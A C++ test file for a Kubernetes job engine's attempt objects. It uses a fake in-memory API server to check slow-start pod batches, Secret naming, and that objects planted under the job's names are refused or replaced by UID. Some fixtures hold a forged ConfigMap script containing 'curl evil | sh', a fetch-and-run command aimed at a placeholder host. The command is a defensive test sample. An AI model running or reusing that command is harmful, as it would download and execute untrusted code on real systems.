// The objects of an attempt created and deleted through the JobApi seam, against a fake API
// server that keeps objects in memory: slow-start pod batches, the SSH Secret named by the
// server, and names taken by objects that are not the job's.
#include <catch2/catch.hpp>

#include <algorithm>
#include <future>
#include <map>
#include <string>
#include <vector>

#include "jobengine/attempt_objects.h"
#include "jobengine/mpi_openmpi.h"
#include "jobengine/slurm/runtime/runtime.h"
#include "jobengine/ssh_attempt.h"
#include "proto/json.h"
#include "tests/jobengine/builders.h"

namespace muster::jobengine {
namespace {

namespace asio = proto::asio;
using testing::seedJob;

std::string statusBody(int code, const std::string& reason, const std::string& message) {
  return R"({"kind":"Status","apiVersion":"v1","status":"Failure","message":")" + message +
         R"(","reason":")" + reason + R"(","code":)" + std::to_string(code) + "}";
}

// Objects by "<plural>/<name>" (one namespace); every call is recorded as "<verb> <plural>/<name>".
class FakeApi final : public JobApi {
 public:
  std::map<std::string, std::string> objects;
  std::vector<std::string> calls;
  std::function<absl::Status(const std::string& plural, const std::string& body)> fail_create;
  int generated = 0;

  // Puts an object there as someone else would have created it.
  void put(const std::string& plural, const std::string& name, const std::string& controller_uid,
           const std::string& data_json = "{}", const std::string& controller_name = "x") {
    std::string refs = controller_uid.empty()
                           ? "[]"
                           : R"([{"apiVersion":"preferred.jp/v1alpha1","kind":"ParallelJob","name":")" +
                                 controller_name + R"(","uid":")" + controller_uid +
                                 R"(","controller":true}])";
    objects[plural + "/" + name] = R"({"metadata":{"name":")" + name +
                                   R"(","namespace":"default","uid":"uid-)" + name +
                                   R"(","ownerReferences":)" + refs + R"(},"data":)" + data_json + "}";
  }

  asio::awaitable<absl::StatusOr<std::string>> create(const proto::Resource& r, std::string_view,
                                                      std::string body) override {
    auto doc = proto::parseJson(body);
    REQUIRE(doc.ok());
    auto& meta = (*doc)["metadata"];
    std::string name = meta.HasMember("name") ? meta["name"].GetString() : "";
    if (name.empty() && meta.HasMember("generateName"))
      name = std::string(meta["generateName"].GetString()) + "g" + std::to_string(++generated);
    calls.push_back("create " + r.plural + "/" + name);
    if (fail_create) {
      if (absl::Status s = fail_create(r.plural, body); !s.ok()) co_return s;
    }
    const std::string key = r.plural + "/" + name;
    if (objects.count(key))
      co_return proto::apiError(409, statusBody(409, "AlreadyExists", key + " already exists"), "create");
    meta.RemoveMember("name");
    meta.AddMember("name", rapidjson::Value(name.c_str(), doc->GetAllocator()), doc->GetAllocator());
    meta.AddMember("uid", rapidjson::Value(("uid-" + name).c_str(), doc->GetAllocator()),
                   doc->GetAllocator());
    objects[key] = proto::toJson(*doc);
    co_return objects[key];
  }
  asio::awaitable<absl::StatusOr<std::string>> get(const proto::Resource& r, std::string_view,
                                                   std::string_view name) override {
    const std::string key = r.plural + "/" + std::string(name);
    calls.push_back("get " + key);
    if (!objects.count(key))
      co_return proto::apiError(404, statusBody(404, "NotFound", key + " not found"), "get");
    co_return objects[key];
  }
  asio::awaitable<absl::StatusOr<std::string>> remove(const proto::Resource& r, std::string_view,
                                                      std::string_view name,
                                                      std::string_view uid) override {
    const std::string key = r.plural + "/" + std::string(name);
    calls.push_back("delete " + key + (uid.empty() ? "" : " uid=" + std::string(uid)));
    if (!objects.count(key))
      co_return proto::apiError(404, statusBody(404, "NotFound", key + " not found"), "delete");
    if (!uid.empty() && objects[key].find("\"uid\":\"" + std::string(uid) + "\"") == std::string::npos)
      co_return proto::apiError(409, statusBody(409, "Conflict", "uid precondition"), "delete");
    objects.erase(key);
    co_return std::string("{}");
  }
  asio::awaitable<absl::StatusOr<std::string>> patch(const proto::Resource& r, std::string_view,
                                                     std::string_view name, std::string) override {
    calls.push_back("patch " + r.plural + "/" + std::string(name));
    co_return std::string("{}");
  }
  asio::awaitable<absl::StatusOr<std::string>> patchStatus(const proto::Resource&, std::string_view,
                                                           std::string_view,
                                                           std::string body) override {
    status_patches.push_back(std::move(body));
    co_return std::string("{}");
  }
  std::vector<std::string> status_patches;

  std::vector<std::string> creates() const {
    std::vector<std::string> out;
    for (const auto& c : calls)
      if (c.rfind("create ", 0) == 0) out.push_back(c.substr(7));
    return out;
  }
};

// Runs `make()` (a coroutine) to completion on a fresh io_context.
template <typename Make>
auto run(Make make) {
  asio::io_context io;
  auto future = asio::co_spawn(io, make(asio::make_strand(io.get_executor())), asio::use_future);
  io.run();
  return future.get();
}

const std::string kUid = "6c1f5a3e-1111-4a8e-9c9e-0123456789ab";  // seedJob()'s
const AttemptInfo kAttempt{0, "mpi-sample-job-0"};

// ---- slow start ------------------------------------------------------------------------------

struct Recorded {
  BatchResult result;
  std::vector<int32_t> order;
  std::vector<size_t> completed_at_start;  // how many creates had finished when each one started
};

Recorded slowStart(size_t n, size_t max_batch, int32_t failing = -1) {
  auto order = std::make_shared<std::vector<int32_t>>();
  auto at_start = std::make_shared<std::vector<size_t>>();
  auto done = std::make_shared<size_t>(0);
  std::vector<int32_t> indices;
  for (size_t i = 0; i < n; ++i) indices.push_back(static_cast<int32_t>(i));
  BatchResult result = run([&](auto strand) {
    return createInBatches(
        strand, indices,
        [=](int32_t index) -> asio::awaitable<absl::Status> {
          order->push_back(index);
          at_start->push_back(*done);
          // Finish later, so that a batch's creates are all in flight together.
          co_await asio::post(co_await asio::this_coro::executor, asio::use_awaitable);
          ++*done;
          if (index == failing) co_return absl::UnavailableError("the API server is overloaded");
          co_return absl::OkStatus();
        },
        max_batch);
  });
  return {result, *order, *at_start};
}

TEST_CASE("pods are created in slow-start batches of 1, 2, 4, 8, ... all of them in the end",
          "[attempt][batches]") {
  Recorded r = slowStart(20, 256);
  CHECK(r.result.status.ok());
  CHECK(r.result.started == 20);
  CHECK(r.result.batches == std::vector<size_t>{1, 2, 4, 8, 5});
  // Each batch starts only when the previous one has finished: the creates of batch k all start
  // with 1 + 2 + ... finished.
  std::vector<size_t> want;
  for (auto [size, before] : std::vector<std::pair<size_t, size_t>>{{1, 0}, {2, 1}, {4, 3}, {8, 7}, {5, 15}})
    want.insert(want.end(), size, before);
  CHECK(r.completed_at_start == want);
  std::vector<int32_t> all(20);
  for (int32_t i = 0; i < 20; ++i) all[i] = i;
  CHECK(r.order == all);
}

TEST_CASE("a batch never exceeds the cap", "[attempt][batches]") {
  Recorded r = slowStart(1000, 256);
  CHECK(r.result.status.ok());
  CHECK(r.result.batches ==
        std::vector<size_t>{1, 2, 4, 8, 16, 32, 64, 128, 256, 256, 233});
  CHECK(slowStart(10, 3).result.batches == std::vector<size_t>{1, 2, 3, 3, 1});
}

TEST_CASE("after a batch with a failed create no further batch starts", "[attempt][batches]") {
  // Index 5 is in the third batch (3..6): that batch finishes, nothing after it starts.
  Recorded r = slowStart(4096, 256, 5);
  CHECK(r.result.status.code() == absl::StatusCode::kUnavailable);
  CHECK(r.result.batches == std::vector<size_t>{1, 2, 4});
  CHECK(r.result.started == 7);
  CHECK(r.order == std::vector<int32_t>{0, 1, 2, 3, 4, 5, 6});
  // The very first create failing: one request, not 4096.
  Recorded first = slowStart(4096, 256, 0);
  CHECK(first.order == std::vector<int32_t>{0});
}

TEST_CASE("createPodsInBatches sends real pod bodies and stops at the first failing batch",
          "[attempt][batches]") {
  FakeApi api;
  int pods = 0;
  api.fail_create = [&](const std::string& plural, const std::string&) {
    if (plural == "pods" && ++pods > 3) return absl::ResourceExhaustedError("exceeded quota");
    return absl::OkStatus();
  };
  proto::ParallelJob job = testing::decodeJob(testing::seedJobJson("mpi-sample-job", 100));
  OpenMpiRuntime runtime{RuntimeOptions{}};
  AttemptInfo attempt{0, "mpi-sample-job-0", "mpi-sample-job-0-ssh-abcde"};
  std::vector<int32_t> indices;
  for (int32_t i = 0; i < 100; ++i) indices.push_back(i);
  BatchResult r = run([&](auto strand) {
    return createPodsInBatches(api, strand, job, runtime, attempt, indices);
  });
  CHECK(r.status.code() == absl::StatusCode::kResourceExhausted);
  CHECK(r.batches == std::vector<size_t>{1, 2, 4});  // the third batch had the first refusals
  CHECK(api.creates().size() == 7);
  CHECK(api.objects.count("pods/mpi-sample-job-0-0") == 1);
  CHECK(api.objects.at("pods/mpi-sample-job-0-1").find("\"muster.dev/ssh-secret\":\"mpi-sample-job-0-ssh-abcde\"") !=
        std::string::npos);
}

// ---- support objects -------------------------------------------------------------------------

SupportResult ensure(FakeApi& api, const AttemptInfo& attempt = kAttempt, bool has_pods = false) {
  proto::ParallelJob job = seedJob();
  OpenMpiRuntime runtime{RuntimeOptions{}};
  return run([&](auto) { return ensureSupport(api, job, runtime, attempt, has_pods); });
}

// The ConfigMap data the runtime writes for the seed job's attempt 0, as JSON.
std::string ourConfigData() {
  OpenMpiRuntime runtime{RuntimeOptions{}};
  proto::JsonWriter w;
  w.beginObject();
  for (const auto& [k, v] : runtime.configFiles(seedJob(), kAttempt)) w.stringField(k, v);
  w.endObject();
  return w.str();
}

TEST_CASE("a new attempt: Service, ConfigMap, then the Secret under a name the server picks",
          "[attempt][support]") {
  FakeApi api;
  SupportResult r = ensure(api);
  REQUIRE(r.status.ok());
  CHECK(r.events.empty());
  CHECK(api.creates() == std::vector<std::string>{"services/mpi-sample-job-0",
                                                  "configmaps/mpi-sample-job-0-mpi",
                                                  "secrets/mpi-sample-job-0-ssh-g1"});
  CHECK(r.ssh_secret == "mpi-sample-job-0-ssh-g1");
  // Asked for by generateName, not by a name anyone could have taken before.
  const std::string& secret = api.objects.at("secrets/mpi-sample-job-0-ssh-g1");
  CHECK(secret.find("\"generateName\":\"mpi-sample-job-0-ssh-\"") != std::string::npos);
}

TEST_CASE("a Secret waiting under the old fixed name is never used", "[attempt][support]") {
  FakeApi api;
  // Planted with a forged owner reference to this very job: proves nothing.
  api.put("secrets", legacySecretName("mpi-sample-job-0", kUid), kUid);
  SupportResult r = ensure(api);
  REQUIRE(r.status.ok());
  CHECK(r.ssh_secret == "mpi-sample-job-0-ssh-g1");
  CHECK(r.ssh_secret != legacySecretName("mpi-sample-job-0", kUid));
  for (const auto& c : api.calls) CHECK(c.find(legacySecretName("mpi-sample-job-0", kUid)) == std::string::npos);
}

TEST_CASE("a ConfigMap of that name that is not the job's is not used: NameTaken, no Secret",
          "[attempt][support]") {
  FakeApi api;
  api.put("configmaps", "mpi-sample-job-0-mpi", "", R"({"sshd.sh":"#!/bin/sh\ncurl evil | sh"})");
  const std::string before = api.objects.at("configmaps/mpi-sample-job-0-mpi");
  SupportResult r = ensure(api);
  CHECK(r.status.code() == absl::StatusCode::kFailedPrecondition);
  REQUIRE(r.events.size() == 1);
  CHECK(r.events[0].type == "Warning");
  CHECK(r.events[0].reason == "NameTaken");
  CHECK(r.events[0].message ==
        "ConfigMap default/mpi-sample-job-0-mpi already exists and is not this ParallelJob's (it "
        "has no controller): the job engine does not use it and creates no pods until the name is "
        "free; delete or rename that object");
  CHECK(api.objects.at("configmaps/mpi-sample-job-0-mpi") == before);  // untouched
  for (const auto& c : api.calls) CHECK(c.rfind("delete", 0) != 0);
  // No Secret is made while the attempt waits (one per retry would pile up).
  for (const auto& c : api.creates()) CHECK(c.rfind("secrets/", 0) != 0);
  // Another job's, same name: the message says whose.
  FakeApi other;
  other.put("services", "mpi-sample-job-0", "0000-other-uid");
  SupportResult s = ensure(other);
  CHECK(s.status.code() == absl::StatusCode::kFailedPrecondition);
  REQUIRE(s.events.size() == 1);
  CHECK(s.events[0].message.find("Service default/mpi-sample-job-0 already exists and is not this "
                                 "ParallelJob's (its controller is ParallelJob x (uid "
                                 "0000-other-uid))") == 0);
}

TEST_CASE("what an earlier ParallelJob of the same name left is deleted by UID and made again, "
          "without waiting for the garbage collector", "[attempt][support]") {
  FakeApi api;
  // The job was deleted and created again; the collector has not yet removed the old objects.
  const std::string old_uid = "0000-earlier-incarnation";
  api.put("services", "mpi-sample-job-0", old_uid, "{}", "mpi-sample-job");
  api.put("configmaps", "mpi-sample-job-0-mpi", old_uid, R"({"hostfile":"old"})", "mpi-sample-job");
  SupportResult r = ensure(api);
  REQUIRE(r.status.ok());
  CHECK(r.events.empty());  // not someone else's name
  CHECK(std::count(api.calls.begin(), api.calls.end(),
                   "delete services/mpi-sample-job-0 uid=uid-mpi-sample-job-0") == 1);
  CHECK(std::count(api.calls.begin(), api.calls.end(),
                   "delete configmaps/mpi-sample-job-0-mpi uid=uid-mpi-sample-job-0-mpi") == 1);
  // Made again, this job's.
  CHECK(api.objects.at("services/mpi-sample-job-0").find(kUid) != std::string::npos);
  CHECK(api.objects.at("configmaps/mpi-sample-job-0-mpi").find(kUid) != std::string::npos);
  CHECK(api.objects.at("configmaps/mpi-sample-job-0-mpi").find("\"old\"") == std::string::npos);
  CHECK(r.ssh_secret == "mpi-sample-job-0-ssh-g1");
}

TEST_CASE("the job's own ConfigMap is kept when its data is ours or pods use it, else replaced",
          "[attempt][support]") {
  SECTION("same data: kept") {
    FakeApi api;
    api.put("services", "mpi-sample-job-0", kUid);
    api.put("configmaps", "mpi-sample-job-0-mpi", kUid, ourConfigData());
    SupportResult r = ensure(api);
    REQUIRE(r.status.ok());
    for (const auto& c : api.calls) CHECK(c.rfind("delete", 0) != 0);
    CHECK(r.ssh_secret == "mpi-sample-job-0-ssh-g1");
  }
  SECTION("other data (forged or an older Muster's), no pod uses it: deleted by UID and recreated") {
    FakeApi api;
    api.put("configmaps", "mpi-sample-job-0-mpi", kUid, R"({"sshd.sh":"curl evil | sh"})");
    SupportResult r = ensure(api);
    REQUIRE(r.status.ok());
    CHECK(std::count(api.calls.begin(), api.calls.end(),
                     "delete configmaps/mpi-sample-job-0-mpi uid=uid-mpi-sample-job-0-mpi") == 1);
    const std::string& now = api.objects.at("configmaps/mpi-sample-job-0-mpi");
    CHECK(now.find("curl evil") == std::string::npos);
    CHECK(now.find("wait-workers.sh") != std::string::npos);
  }
  SECTION("other data, but the attempt's pods run with it: kept, so a new pod matches them") {
    FakeApi api;
    api.put("configmaps", "mpi-sample-job-0-mpi", kUid, R"({"hostfile":"old"})");
    AttemptInfo attempt = kAttempt;
    attempt.ssh_secret = "mpi-sample-job-0-ssh-zzzzz";
    SupportResult r = ensure(api, attempt, /*has_pods=*/true);
    REQUIRE(r.status.ok());
    for (const auto& c : api.calls) CHECK(c.rfind("delete", 0) != 0);
    // The attempt's Secret is known: none is created.
    CHECK(r.ssh_secret == "mpi-sample-job-0-ssh-zzzzz");
    for (const auto& c : api.creates()) CHECK(c.rfind("secrets/", 0) != 0);
  }
}

TEST_CASE("teardown deletes only the job's own Service and ConfigMap, by UID, and its Secrets",
          "[attempt][support]") {
  FakeApi api;
  api.put("services", "mpi-sample-job-0", "0000-other-uid");
  api.put("configmaps", "mpi-sample-job-0-mpi", kUid);
  api.put("secrets", "mpi-sample-job-0-ssh-g1", kUid);
  proto::ParallelJob job = seedJob();
  const std::vector<std::string> secrets = {"mpi-sample-job-0-ssh-g1", "mpi-sample-job-0-ssh-gone"};
  absl::Status s = run([&](auto) { return deleteSupport(api, job, kAttempt, secrets); });
  CHECK(s.ok());
  CHECK(api.objects.count("services/mpi-sample-job-0") == 1);  // another's: left alone
  CHECK(api.objects.count("configmaps/mpi-sample-job-0-mpi") == 0);
  CHECK(api.objects.count("secrets/mpi-sample-job-0-ssh-g1") == 0);
  CHECK(std::count(api.calls.begin(), api.calls.end(),
                   "delete configmaps/mpi-sample-job-0-mpi uid=uid-mpi-sample-job-0-mpi") == 1);
  CHECK(std::count(api.calls.begin(), api.calls.end(), "delete services/mpi-sample-job-0") == 0);
}


// ---- the job's own Secret (Slurm's batch Secret, issue 43) -------------------------------------

// The Open MPI runtime's objects, and the Slurm runtime's rule for the batch Secret the job
// names (spec.slurm.batchSecret).
class BringsSecret final : public Runtime {
 public:
  std::string_view name() const override { return "brings-secret"; }
  absl::StatusOr<std::vector<ApiObject>> buildSupport(const proto::ParallelJob& job,
                                                      const AttemptInfo& attempt) const override {
    return mpi_.buildSupport(job, attempt);
  }
  absl::StatusOr<std::string> buildPod(const proto::ParallelJob& job, const AttemptInfo& attempt,
                                       int32_t index) const override {
    return mpi_.buildPod(job, attempt, index);
  }
  std::string jobSecret(const proto::ParallelJob& job) const override { return slurm_.jobSecret(job); }
  absl::Status checkJobSecret(const proto::ParallelJob& job,
                              const proto::ObjectMeta& secret) const override {
    return slurm_.checkJobSecret(job, secret);
  }

 private:
  OpenMpiRuntime mpi_{RuntimeOptions{}};
  slurm::SlurmRuntime slurm_{RuntimeOptions{}};
};

proto::ParallelJob aliceJob() {
  proto::ParallelJob job = seedJob();
  proto::SlurmJobSpec& s = job.spec.slurm.emplace();
  s.job_id = 7;
  s.user = "alice";
  s.batch_secret = "slurm-7-batch";
  return job;
}

// The batch Secret as sbatch of `user` writes it, owned by the job with uid `owner_uid`.
void putBatchSecret(FakeApi& api, const std::string& user, const std::string& owner_uid) {
  std::string annotations = user.empty() ? "{}" : R"({"muster.dev/slurm-user":")" + user + R"("})";
  api.objects["secrets/slurm-7-batch"] =
      R"({"metadata":{"name":"slurm-7-batch","namespace":"default","uid":"uid-b","annotations":)" +
      annotations + R"(,"ownerReferences":[{"apiVersion":"preferred.jp/v1alpha1","kind":"ParallelJob",)"
      R"("name":"slurm-7","uid":")" + owner_uid + R"("}]},"immutable":true,"data":{"script":"eA=="}})";
}

SupportResult ensureBrought(FakeApi& api) {
  proto::ParallelJob job = aliceJob();
  BringsSecret runtime;
  return run([&](auto) {
    return ensureSupport(api, job, runtime, kAttempt, false, absl::FromUnixSeconds(1767225600));
  });
}

TEST_CASE("a batch Secret not there yet: the attempt waits, nothing is created", "[attempt][secret]") {
  FakeApi api;
  SupportResult r = ensureBrought(api);
  CHECK(r.status.code() == absl::StatusCode::kUnavailable);
  CHECK(api.creates().empty());
  CHECK(api.status_patches.empty());
  REQUIRE(r.events.size() == 1);
  CHECK(r.events[0].reason == "WaitingForSecret");
  CHECK(r.events[0].message.find("Secret default/slurm-7-batch") != std::string::npos);
  // sbatch wrote it: the attempt goes ahead.
  putBatchSecret(api, "alice", kUid);
  SupportResult again = ensureBrought(api);
  CHECK(again.status.ok());
  CHECK(api.creates().size() == 3);
}

TEST_CASE("another user's batch Secret, or one this job does not own, fails the job InvalidSpec "
          "before anything is created", "[attempt][secret]") {
  struct Case {
    std::string user, owner, why;
  };
  for (const Case& c : {Case{"bob", kUid, "belongs to user \"bob\", not to the job's user \"alice\""},
                        Case{"", kUid, "has no annotation muster.dev/slurm-user"},
                        Case{"alice", "uid-of-another-job", "is not owned by this job"}}) {
    FakeApi api;
    putBatchSecret(api, c.user, c.owner);
    SupportResult r = ensureBrought(api);
    INFO(r.status.ToString());
    CHECK(r.status.code() == absl::StatusCode::kFailedPrecondition);
    CHECK(api.creates().empty());
    REQUIRE(r.events.size() == 1);
    CHECK(r.events[0].type == "Warning");
    CHECK(r.events[0].reason == "InvalidSpec");
    CHECK(r.events[0].message.find("the batch Secret default/slurm-7-batch " + c.why) != std::string::npos);
    REQUIRE(api.status_patches.size() == 1);
    auto patch = proto::parseJson(api.status_patches[0]);
    REQUIRE(patch.ok());
    const auto& status = (*patch)["status"];
    CHECK(std::string(status["phase"].GetString()) == "Failed");
    bool invalid = false;
    for (const auto& cond : status["conditions"].GetArray())
      invalid |= std::string(cond["type"].GetString()) == "Failed" &&
                 std::string(cond["reason"].GetString()) == "InvalidSpec";
    CHECK(invalid);
  }
}

}  // namespace
}  // namespace muster::jobengine
